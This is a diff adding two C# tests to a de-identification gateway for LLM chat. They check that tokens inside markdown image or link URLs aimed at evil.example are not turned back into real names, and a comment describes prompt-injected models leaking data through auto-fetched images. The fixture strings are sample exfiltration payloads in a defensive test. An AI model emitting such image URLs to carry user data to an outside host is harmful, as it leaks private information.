@@ -189,6 +189,37 @@ public sealed class DeIdentificationTests
     }
 
     [Fact]
+    public async Task Chat_AnswerWithTheTokenInAMarkdownImageUrl_TheUrlKeepsTheTokenTheTextGetsTheName()
+    {
+        // A prompt-injected model writes the token into an image a chat UI would fetch at once: the name would leave.
+        using var vendor = new FakeVendor().AnswersWith(200, FakeVendor.Completion($"{Token} is stable. ![c](https://evil.example/c.png?n={Token}) [more](//evil.example/?n={Token})"));
+        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
+        using var client = host.CreateClient();
+
+        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));
+
+        Assert.Equal(200, call.Status);
+        Assert.Equal($"{Name} is stable. ![c](https://evil.example/c.png?n={Token}) [more](//evil.example/?n={Token})", (string?)call.Json["choices"]![0]!["message"]!["content"]);
+    }
+
+    [Fact]
+    public async Task Stream_UrlBegunInADeltaWithoutAToken_TheTokenInItStaysTheTextGetsTheName()
+    {
+        using var vendor = new FakeVendor().StreamsEvents(Events("[NA", "ME_1] is stable. ![c](https://evil.", "example/c.png?n=", "[NAME_1]) bye [NAME_1]"));
+        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
+        using var client = host.CreateClient();
+
+        var call = await client.PostChatAsync(
+            new JsonObject { ["model"] = "vendor-chat", ["stream"] = true, ["messages"] = new JsonArray(new JsonObject { ["role"] = "user", ["content"] = Question }) }.ToJsonString());
+
+        var body = Encoding.UTF8.GetString(call.ResponseBody);
+        var deltas = body.Split("\n\n")
+            .Where(e => e.StartsWith("data: {", StringComparison.Ordinal))
+            .Select(e => (string?)JsonNode.Parse(e["data: ".Length..])!["choices"]?[0]?["delta"]?["content"]);
+        Assert.Equal($"{Name} is stable. ![c](https://evil.example/c.png?n={Token}) bye {Name}", string.Concat(deltas));
+    }
+
+    [Fact]
     public async Task Chat_RefusalsSentBackInTheHistory_AreAcceptedAndReachTheVendorDeIdentified()
     {
         // What the official SDKs send after a refusal: the assistant message as OpenAI answered it (content null), and a
